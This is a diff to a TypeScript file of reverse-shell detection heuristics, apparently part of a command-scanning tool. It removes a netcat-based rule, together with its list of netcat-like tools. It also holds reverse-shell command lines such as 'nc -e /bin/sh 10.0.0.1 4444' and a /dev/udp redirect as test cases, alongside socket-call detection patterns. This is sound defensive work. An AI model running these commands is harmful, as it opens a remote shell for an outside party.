@@ -1,13 +1,9 @@
 // Reverse shells: a shell whose input and output hang on a network connection.
-import { has, settingsOf } from "../../../normalise/programs/invocation.ts";
 import { severity } from "../../bands.ts";
 import { type Heuristic, firstOf, onAnyCommand, onCode, onCommand, when } from "../../heuristic.ts";
 import { isShell } from "../../programs.ts";
 import { onlyOptions } from "../../read.ts";
 
-const netcats = ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "busybox", "cryptcat", "pwncat", "sbd"];
-/** `-e`, `-c`, also among other letters where the program has no definition. */
-const runsProgram = /^-[a-z0-9]*[ec][a-z0-9]*$|^--(?:exec|lua-exec)$/u;
 const socketCall =
   /socket\.socket|socket\.create_connection|socket\s*\(\s*s\s*,|io::socket|tcpsocket|fsockopen|net\.(?:connect|socket|createconnection)|stream_socket_client|\/inet\/tcp|\/dev\/tcp|socket\.tcp|require\s*\(?\s*["']socket["']|java\.net\.socket|net\.sockets\.tcpclient|socat/iu;
 const shellCall =
@@ -44,22 +40,6 @@ export const reverseShell: readonly Heuristic[] = [
       `bash -c 'sh -i >& /dev/udp/10.0.0.1/53 0>&1'`,
     ],
     not_match: ["ls /dev", "cat /dev/null > out.txt"],
-  },
-  {
-    id: "netcat-shell",
-    threat: "Reverse shell",
-    technique: "T1059",
-    score: severity.critical,
-    check: onCommand(netcats, (command) => {
-      if (command.program === "busybox" && command.operands[0] !== "nc") return null;
-      const executes =
-        has(command, "--sh-exec") ||
-        (command.options.some(({ name }) => runsProgram.test(name)) &&
-          settingsOf(command).some((word) => /sh\b|cmd|python|perl|powershell|\/bin\//iu.test(word)));
-      return executes ? "It hands a shell to whoever is at the other end of the connection" : null;
-    }),
-    match: ["nc -e /bin/sh 10.0.0.1 4444", "ncat -lvp 4444 -e /bin/bash", "nc -c bash 10.0.0.1 4444"],
-    not_match: ["nc -zv localhost 5432", "echo ruok | nc localhost 2181"],
   },
   {
     id: "piped-shell",
